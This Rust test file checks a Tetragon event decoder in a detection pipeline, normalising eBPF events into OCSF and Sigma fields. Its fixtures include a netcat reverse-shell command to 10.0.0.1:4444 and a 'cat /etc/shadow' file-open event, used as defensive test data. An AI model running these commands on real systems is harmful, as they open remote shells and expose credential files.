//! Tetragon decoder on the samples in `$VIGIL_CORPUS/samples/tetragon`: JSON lines
//! (`*.jsonl`, one event per line) and whole-file JSON documents (`*.json`, one
//! pretty-printed event per file, decoded as one record). Every record is sniffed as
//! Tetragon and decodes; a corrupted copy yields the expected dead letters; one snapshot
//! per event type; the protobuf stream gives the same events as the JSON export.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{json, Value};
use vigil_normalize::tetragon::decode_protobuf_stream;
use vigil_normalize::tetragon::proto::{self, get_events_response::Event, kprobe_argument::Arg, prost::Message};
use vigil_normalize::{AutoDecoder, DeadLetterReason, Normalized, SourceKind};

/// The corpus root, or `None` (test skipped) when `VIGIL_CORPUS` is unset — except in
/// CI, where a missing corpus is a failure.
fn corpus() -> Option<PathBuf> {
    match std::env::var_os("VIGIL_CORPUS") {
        Some(p) => {
            let p = PathBuf::from(p);
            Some(if p.is_absolute() { p } else { Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(p) })
        }
        None => {
            assert!(std::env::var("CI").as_deref() != Ok("true"), "VIGIL_CORPUS must be set when CI=true");
            eprintln!("skipped: VIGIL_CORPUS not set");
            None
        }
    }
}

/// Every sample record with its origin (`file` or `file:line`): JSON lines split per
/// line, `.json` files whole. The `.proto` files are not samples.
fn records(root: &Path) -> Vec<(String, String)> {
    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
        let mut entries: Vec<PathBuf> =
            std::fs::read_dir(dir).expect("readable dir").map(|e| e.expect("dir entry").path()).collect();
        entries.sort();
        for p in entries {
            if p.is_dir() {
                walk(&p, out);
            } else {
                out.push(p);
            }
        }
    }
    let base = root.join("samples/tetragon");
    let mut files = Vec::new();
    walk(&base, &mut files);
    let mut out = Vec::new();
    for file in files {
        let name = file.strip_prefix(&base).expect("under base").display().to_string();
        let ext = file.extension().and_then(|e| e.to_str()).unwrap_or("");
        let text = || std::fs::read_to_string(&file).expect("UTF-8 sample");
        match ext {
            "jsonl" => {
                for (i, line) in text().lines().enumerate() {
                    if !line.trim().is_empty() {
                        out.push((format!("{name}:{}", i + 1), line.to_owned()));
                    }
                }
            }
            "json" => out.push((name, text())),
            _ => {}
        }
    }
    out
}

fn record(root: &Path, name: &str) -> String {
    records(root).into_iter().find(|(n, _)| n == name).unwrap_or_else(|| panic!("no sample {name}")).1
}

fn decode_one(rec: &str) -> Normalized {
    let mut out = Vec::new();
    let kind = AutoDecoder::new(None).decode(rec, &mut out).expect("decodes");
    assert_eq!(kind, SourceKind::Tetragon);
    assert_eq!(out.len(), 1);
    out.remove(0)
}

/// The normalized views a snapshot pins.
fn view(n: &Normalized) -> Value {
    json!({
        "time": n.time.map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true)),
        "logsource": n.logsource,
        "ocsf": n.ocsf,
        "sigma": n.sigma,
    })
}

fn event_code(n: &Normalized) -> String {
    n.ocsf["metadata"]["event_code"].as_str().expect("event_code").to_owned()
}

#[test]
fn every_sample_is_sniffed_and_decoded() {
    let Some(root) = corpus() else { return };
    let records = records(&root);
    assert_eq!(records.len(), 86, "sample records");
    let mut decoder = AutoDecoder::new(None);
    let mut per_type: BTreeMap<(String, u64), usize> = BTreeMap::new();
    let mut failures = Vec::new();
    for (name, rec) in &records {
        let mut out = Vec::new();
        match decoder.decode(rec, &mut out) {
            Ok(SourceKind::Tetragon) => {}
            Ok(other) => failures.push(format!("{name}: sniffed as {other}")),
            Err(e) => failures.push(format!("{name}: {e}")),
        }
        for n in &out {
            assert!(n.time.is_some() || name.contains("threatintel"), "{name}: no time");
            *per_type.entry((event_code(n), n.ocsf["class_uid"].as_u64().unwrap_or(0))).or_default() += 1;
            // Every view is valid JSON.
            let sigma: Value = serde_json::from_str(&n.sigma_json()).expect("sigma view is JSON");
            assert!(sigma.is_object());
        }
    }
    assert!(failures.is_empty(), "dead letters: {failures:#?}");
    let got: Vec<String> = per_type.iter().map(|((t, c), n)| format!("{t}/{c}: {n}")).collect();
    assert_eq!(
        got,
        [
            "process_close/4001: 4",
            "process_connect/4001: 5",
            "process_exec/1007: 31",
            "process_exit/1007: 11",
            "process_kprobe/1001: 7",
            "process_kprobe/1007: 16",
            "process_listen/4001: 2",
            "process_loader/1005: 1",
            "process_lsm/1001: 1",
            "process_throttle/0: 3",
            "process_tracepoint/1007: 1",
            "process_uprobe/1007: 1",
            "process_usdt/1007: 1",
            "rate_limit_info/0: 1",
            "test/0: 1",
        ]
    );
}

#[test]
fn snapshots_one_event_per_type() {
    let Some(root) = corpus() else { return };
    let cases = [
        ("process_exec", "testdata_events.jsonl:1"),
        ("process_exec_vector_wrapped", "third-party/honeycluster_tetragon_vector_wrapped.jsonl:1"),
        ("process_exit", "docs-md-extracted/en__docs__use-cases__process-lifecycle__process-execution__process_exit_12.json"),
        ("process_exit_signal", "synthetic-proto-fixtures-lugoues/process_exit.json"),
        ("process_kprobe_file_read", "third-party/threatintel_process_kprobe_example.json"),
        ("process_kprobe_file_write", "docs-ebpf-book/00_four_golden_signals__process_kprobe.json"),
        (
            "process_kprobe_set_uid",
            "docs-md-extracted/en__docs__use-cases__linux-process-credentials__monitor-changes-at-kernel__process_kprobe_9.json",
        ),
        (
            "process_kprobe_other",
            "docs-md-extracted/en__docs__use-cases__security-profiles__record-linux-capabilities__process_kprobe_14.json",
        ),
        ("process_kprobe_synthetic", "synthetic-proto-fixtures-lugoues/process_kprobe.json"),
        ("process_tracepoint", "synthetic-proto-fixtures-lugoues/process_tracepoint.json"),
        ("process_lsm", "synthetic-proto-fixtures-lugoues/process_lsm.json"),
        ("process_uprobe", "synthetic-proto-fixtures-lugoues/process_uprobe.json"),
        ("process_usdt", "synthetic-proto-fixtures-lugoues/process_usdt.json"),
        ("process_loader", "synthetic-proto-fixtures-lugoues/process_loader.json"),
        ("process_throttle", "synthetic-proto-fixtures-lugoues/process_throttle.json"),
        ("rate_limit_info", "synthetic-proto-fixtures-lugoues/rate_limit_info.json"),
        ("test", "synthetic-proto-fixtures-lugoues/test.json"),
        ("legacy_process_connect", "docs-ebpf-book/00_process_lifecycle__nc_process_connect.json"),
        (
            "legacy_process_close",
            "docs-ebpf-book/03_security_observability_events__02_persistance__merlin-agent-job-close.json",
        ),
        (
            "legacy_process_listen",
            "docs-ebpf-book/03_security_observability_events__01_reaching_the_host_namespace__nginx-listen.json",
        ),
    ];
    for (snapshot, name) in cases {
        let n = decode_one(&record(&root, name));
        insta::assert_json_snapshot!(snapshot, view(&n));
    }
}

#[test]
fn corrupted_copy_gives_the_right_reasons_and_good_lines_still_decode() {
    let Some(root) = corpus() else { return };
    let text =
        std::fs::read_to_string(root.join("samples/tetragon/third-party/honeycluster_tetragon_vector_wrapped.jsonl"))
            .expect("sample");
    let mut lines: Vec<String> = text.lines().filter(|l| !l.trim().is_empty()).map(str::to_owned).collect();
    let good = lines.len() - 5;
    // Truncated line: no longer JSON.
    let half = lines[0].len() / 2;
    lines[0].truncate(half);
    // A pid that is text.
    lines[1] = lines[1].replacen("\"pid\":", "\"pid\":\"many\",\"x\":", 1);
    // An event time that is no time.
    lines[2] = lines[2].replacen("\"time\": \"2025", "\"time\": \"yesterday 2025", 1);
    // A wrapper whose type is no Tetragon event type.
    lines[3] = lines[3].replacen("\"type\": \"process_", "\"type\": \"nonsense_", 1);
    // An exec (line 10) without its process.
    lines[9] = lines[9].replacen("\"payload\": {\"process\":", "\"payload\": {\"proc\":", 1);
    let mut decoder = AutoDecoder::new(Some(SourceKind::Tetragon));
    let mut reasons = Vec::new();
    let mut decoded = 0;
    for line in &lines {
        let mut out = Vec::new();
        match decoder.decode(line, &mut out) {
            Ok(_) => decoded += out.len(),
            Err(e) => {
                assert!(!e.message.is_empty());
                reasons.push(e.reason);
            }
        }
    }
    assert_eq!(
        reasons,
        [
            DeadLetterReason::InvalidJson,
            DeadLetterReason::InvalidField,
            DeadLetterReason::InvalidField,
            DeadLetterReason::InvalidField,
            DeadLetterReason::MissingField,
        ]
    );
    assert_eq!(decoded, good);
}

fn ts(seconds: i64, nanos: i32) -> Option<proto::prost_types::Timestamp> {
    Some(proto::prost_types::Timestamp { seconds, nanos })
}

fn proto_process(pid: u32, binary: &str, arguments: &str) -> proto::Process {
    proto::Process {
        exec_id: format!("exec-{pid}"),
        pid: Some(pid),
        uid: Some(0),
        cwd: "/".into(),
        binary: binary.into(),
        arguments: arguments.into(),
        start_time: ts(1_700_000_000, 123_000_000),
        pod: Some(proto::Pod {
            namespace: "default".into(),
            name: "web-1".into(),
            container: Some(proto::Container {
                id: "containerd://0123456789abcdef".into(),
                name: "web".into(),
                image: Some(proto::Image { id: "img@sha256:00".into(), name: "nginx:1.27".into() }),
                ..Default::default()
            }),
            pod_labels: [("app".to_owned(), "web".to_owned())].into_iter().collect(),
            workload: "web".into(),
            workload_kind: "Deployment".into(),
            ..Default::default()
        }),
        ..Default::default()
    }
}

fn response(event: Event, seconds: i64) -> proto::GetEventsResponse {
    proto::GetEventsResponse {
        event: Some(event),
        node_name: "node-1".into(),
        time: ts(seconds, 5),
        cluster_name: "prod".into(),
        ..Default::default()
    }
}

fn exec_response() -> proto::GetEventsResponse {
    response(
        Event::ProcessExec(proto::ProcessExec {
            process: Some(proto_process(200, "/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444")),
            parent: Some(proto_process(100, "/bin/bash", "")),
            ancestors: vec![],
        }),
        1_700_000_001,
    )
}

fn arg(a: Arg) -> proto::KprobeArgument {
    proto::KprobeArgument { arg: Some(a), label: String::new() }
}

fn connect_response() -> proto::GetEventsResponse {
    response(
        Event::ProcessKprobe(proto::ProcessKprobe {
            process: Some(proto_process(200, "/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444")),
            parent: Some(proto_process(100, "/bin/bash", "")),
            function_name: "tcp_connect".into(),
            args: vec![arg(Arg::SockArg(proto::KprobeSock {
                family: "AF_INET".into(),
                r#type: "SOCK_STREAM".into(),
                protocol: "IPPROTO_TCP".into(),
                saddr: "10.244.0.5".into(),
                daddr: "10.0.0.1".into(),
                sport: 40000,
                dport: 4444,
                cookie: 18_446_744_073_709_551_615,
                state: "TCP_SYN_SENT".into(),
                ..Default::default()
            }))],
            action: proto::KprobeAction::Post as i32,
            policy_name: "connect".into(),
            ..Default::default()
        }),
        1_700_000_002,
    )
}

/// A kprobe carrying one argument of every `KprobeArgument` kind.
fn every_argument_response() -> proto::GetEventsResponse {
    let args = vec![
        arg(Arg::StringArg("/etc/shadow".into())),
        arg(Arg::IntArg(-2)),
        arg(Arg::SkbArg(proto::KprobeSkb {
            saddr: "1.1.1.1".into(),
            daddr: "2.2.2.2".into(),
            sport: 1,
            dport: 2,
            protocol: "IPPROTO_UDP".into(),
            family: "AF_INET".into(),
            len: 60,
            ..Default::default()
        })),
        arg(Arg::SizeArg(u64::MAX)),
        arg(Arg::BytesArg(b"hello\0".to_vec())),
        arg(Arg::PathArg(proto::KprobePath {
            path: "/tmp/p".into(),
            permission: "-rw-r--r--".into(),
            ..Default::default()
        })),
        arg(Arg::FileArg(proto::KprobeFile { path: "/tmp/f".into(), flags: "O_RDONLY".into(), ..Default::default() })),
        arg(Arg::TruncatedBytesArg(proto::KprobeTruncatedBytes { bytes_arg: b"abc".to_vec(), orig_size: 4096 })),
        arg(Arg::SockArg(proto::KprobeSock { saddr: "::1".into(), daddr: "::2".into(), ..Default::default() })),
        arg(Arg::CredArg(proto::KprobeCred { permitted: vec![0, 21], effective: vec![21], inheritable: vec![] })),
        arg(Arg::LongArg(i64::MIN)),
        arg(Arg::BpfAttrArg(proto::KprobeBpfAttr {
            prog_type: "BPF_PROG_TYPE_KPROBE".into(),
            insn_cnt: 9,
            prog_name: "p".into(),
        })),
        arg(Arg::PerfEventArg(proto::KprobePerfEvent {
            kprobe_func: "f".into(),
            r#type: "PERF_TYPE_TRACEPOINT".into(),
            config: 1,
            probe_offset: 2,
        })),
        arg(Arg::BpfMapArg(proto::KprobeBpfMap {
            map_type: "BPF_MAP_TYPE_HASH".into(),
            key_size: 4,
            value_size: 8,
            max_entries: 16,
            map_name: "m".into(),
        })),
        arg(Arg::UintArg(u32::MAX)),
        arg(Arg::UserNamespaceArg(proto::KprobeUserNamespace {
            level: Some(0),
            owner: Some(0),
            group: Some(0),
            ns: Some(proto::Namespace { inum: 4026531837, is_host: true }),
        })),
        arg(Arg::CapabilityArg(proto::KprobeCapability { value: Some(21), name: "CAP_SYS_ADMIN".into() })),
        arg(Arg::ProcessCredentialsArg(proto::ProcessCredentials {
            uid: Some(1000),
            euid: Some(0),
            securebits: vec![1],
            ..Default::default()
        })),
        arg(Arg::UserNsArg(proto::UserNamespace { level: Some(1), uid: Some(0), gid: Some(0), ns: None })),
        arg(Arg::ModuleArg(proto::KernelModule { name: "xfs".into(), signature_ok: Some(false), tainted: vec![4096] })),
        arg(Arg::KernelCapTArg("000001ffffffffff".into())),
        arg(Arg::CapInheritableArg("0".into())),
        arg(Arg::CapPermittedArg("1".into())),
        arg(Arg::CapEffectiveArg("2".into())),
        arg(Arg::LinuxBinprmArg(proto::KprobeLinuxBinprm { path: "/bin/x".into(), ..Default::default() })),
        arg(Arg::NetDevArg(proto::KprobeNetDev { name: "eth0".into() })),
        arg(Arg::BpfCmdArg(5)),
        arg(Arg::SyscallId(proto::SyscallId { id: 59, abi: "x64".into() })),
        arg(Arg::SockaddrArg(proto::KprobeSockaddr { family: "AF_INET".into(), addr: "3.3.3.3".into(), port: 53 })),
        arg(Arg::BpfProgArg(proto::KprobeBpfProg { prog_type: "t".into(), insn_cnt: 1, prog_name: "n".into() })),
        arg(Arg::ErrorArg(proto::KprobeError { message: "bad".into() })),
        arg(Arg::SockaddrunArg(proto::KprobeSockaddrUn { family: "AF_UNIX".into(), path: "/run/x.sock".into() })),
        proto::KprobeArgument { arg: Some(Arg::IntArg(0)), label: "zero".into() },
    ];
    response(
        Event::ProcessKprobe(proto::ProcessKprobe {
            process: Some(proto_process(300, "/usr/bin/cat", "/etc/shadow")),
            function_name: "security_file_open".into(),
            args,
            r#return: Some(arg(Arg::IntArg(0))),
            action: proto::KprobeAction::Sigkill as i32,
            tags: vec!["observability.filesystem".into()],
            message: "sensitive file opened".into(),
            ..Default::default()
        }),
        1_700_000_003,
    )
}

fn encode(responses: &[proto::GetEventsResponse]) -> Vec<u8> {
    let mut buf = Vec::new();
    for r in responses {
        r.encode_length_delimited(&mut buf).expect("encodes into a Vec");
    }
    buf
}

/// Decodes the raw JSON of a protobuf-decoded event with the JSON decoder.
fn via_json(n: &Normalized) -> Normalized {
    decode_one(n.raw.as_str())
}

#[test]
fn protobuf_stream_decodes_like_the_json_export() {
    let bytes = encode(&[exec_response(), proto::GetEventsResponse::default(), connect_response()]);
    let mut out = Vec::new();
    // The empty response carries no event and is skipped.
    assert_eq!(decode_protobuf_stream(&bytes, &mut out), Ok(2));
    let (exec, connect) = (&out[0], &out[1]);

    assert_eq!(exec.source, SourceKind::Tetragon);
    assert_eq!(exec.ocsf["class_uid"], 1007);
    assert_eq!(exec.sigma["CommandLine"], "/usr/bin/nc -e /bin/sh 10.0.0.1 4444");
    assert_eq!(exec.sigma["ParentImage"], "/bin/bash");
    assert_eq!(exec.ocsf["container"]["uid"], "0123456789abcdef");
    assert_eq!(exec.ocsf["unmapped"]["k8s"]["cluster"], "prod");
    assert_eq!(exec.logsource.category.as_deref(), Some("process_creation"));
    assert_eq!(exec.time.map(|t| t.timestamp_nanos_opt()), Some(Some(1_700_000_001_000_000_005)));

    assert_eq!(connect.ocsf["class_uid"], 4001);
    assert_eq!(connect.ocsf["activity_id"], 1);
    assert_eq!(connect.sigma["DestinationIp"], "10.0.0.1");
    assert_eq!(connect.sigma["DestinationPort"], 4444);
    assert_eq!(connect.sigma["Initiated"], "true");
    assert_eq!(connect.sigma["Protocol"], "tcp");
    assert_eq!(connect.logsource.category.as_deref(), Some("network_connection"));
    // 64-bit integers are written as strings, as the JSON export does.
    assert!(connect.raw.as_str().contains("\"cookie\":\"18446744073709551615\""), "{}", connect.raw.as_str());

    // The raw record of a protobuf event is its JSON export form, and decoding that
    // gives the same normalized event.
    for n in &out {
        let j = via_json(n);
        assert_eq!(view(&j), view(n));
    }
}

#[test]
fn every_kprobe_argument_kind_converts_and_round_trips() {
    let mut out = Vec::new();
    assert_eq!(decode_protobuf_stream(&encode(&[every_argument_response()]), &mut out), Ok(1));
    let n = &out[0];
    let raw: Value = serde_json::from_str(n.raw.as_str()).expect("JSON");
    let args = raw["process_kprobe"]["args"].as_array().expect("args");
    assert_eq!(args.len(), 33);
    let keys: Vec<&str> = args.iter().map(|a| a.as_object().unwrap().keys().next().unwrap().as_str()).collect();
    assert_eq!(
        keys,
        [
            "string_arg",
            "int_arg",
            "skb_arg",
            "size_arg",
            "bytes_arg",
            "path_arg",
            "file_arg",
            "truncated_bytes_arg",
            "sock_arg",
            "cred_arg",
            "long_arg",
            "bpf_attr_arg",
            "perf_event_arg",
            "bpf_map_arg",
            "uint_arg",
            "user_namespace_arg",
            "capability_arg",
            "process_credentials_arg",
            "user_ns_arg",
            "module_arg",
            "kernel_cap_t_arg",
            "cap_inheritable_arg",
            "cap_permitted_arg",
            "cap_effective_arg",
            "linux_binprm_arg",
            "net_dev_arg",
            "bpf_cmd_arg",
            "syscall_id",
            "sockaddr_arg",
            "bpf_prog_arg",
            "error_arg",
            "sockaddrun_arg",
            "int_arg",
        ]
    );
    // protojson forms: 64-bit as strings, bytes as base64, enums by name.
    assert_eq!(args[3]["size_arg"], "18446744073709551615");
    assert_eq!(args[10]["long_arg"], "-9223372036854775808");
    assert_eq!(args[4]["bytes_arg"], "aGVsbG8A");
    assert_eq!(args[9]["cred_arg"]["permitted"], json!(["CAP_CHOWN", "CAP_SYS_ADMIN"]));
    assert_eq!(args[19]["module_arg"]["tainted"], json!(["TAINT_OUT_OF_TREE_MODULE"]));
    assert_eq!(args[26]["bpf_cmd_arg"], "BPF_PROG_LOAD");
    assert_eq!(args[32], json!({"int_arg": 0, "label": "zero"}));
    assert_eq!(raw["process_kprobe"]["action"], "KPROBE_ACTION_SIGKILL");
    // security_file_open: File System Activity Open on the first path argument.
    assert_eq!(n.ocsf["class_uid"], 1001);
    assert_eq!(n.ocsf["activity_id"], 14);
    assert_eq!(n.sigma["TargetFilename"], "/tmp/p");
    assert_eq!(n.ocsf["message"], "sensitive file opened");
    assert_eq!(n.logsource.category.as_deref(), Some("file_access"));
    assert_eq!(view(&via_json(n)), view(n));
}

#[test]
fn corrupted_protobuf_gives_invalid_protobuf_with_offset() {
    let good = encode(&[exec_response()]);
    let mut bytes = good.clone();
    let second = bytes.len();
    let mut bad = encode(&[connect_response()]);
    // The first tag of the second message becomes field 0 with wire type 7: no such thing.
    let prefix = bad.len() - connect_response().encoded_len();
    bad[prefix] = 0x07;
    bytes.extend_from_slice(&bad);
    let mut out = Vec::new();
    let err = decode_protobuf_stream(&bytes, &mut out).unwrap_err();
    assert_eq!(err.reason, DeadLetterReason::InvalidProtobuf);
    assert!(err.message.contains(&format!("byte offset {second}")), "{}", err.message);
    assert_eq!(out.len(), 1, "the good message before the bad one is kept");

    // A stream cut in the middle of a message.
    let mut out = Vec::new();
    let err = decode_protobuf_stream(&good[..good.len() - 3], &mut out).unwrap_err();
    assert_eq!(err.reason, DeadLetterReason::InvalidProtobuf);
    assert!(err.message.contains("truncated"), "{}", err.message);
}
